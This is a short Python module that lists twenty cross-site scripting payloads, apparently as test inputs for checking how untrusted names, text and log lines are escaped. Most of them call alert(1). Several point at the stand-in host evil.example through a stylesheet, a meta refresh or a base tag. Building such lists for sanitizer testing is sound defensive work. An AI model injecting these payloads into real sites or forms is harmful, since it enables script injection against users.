"""Twenty ways to bring a script into a page, for names, words and log lines of strangers."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!--><script>alert(1)</script>-->",
    "${alert(1)}{{alert(1)}}<template><script>alert(1)</script></template>",
)
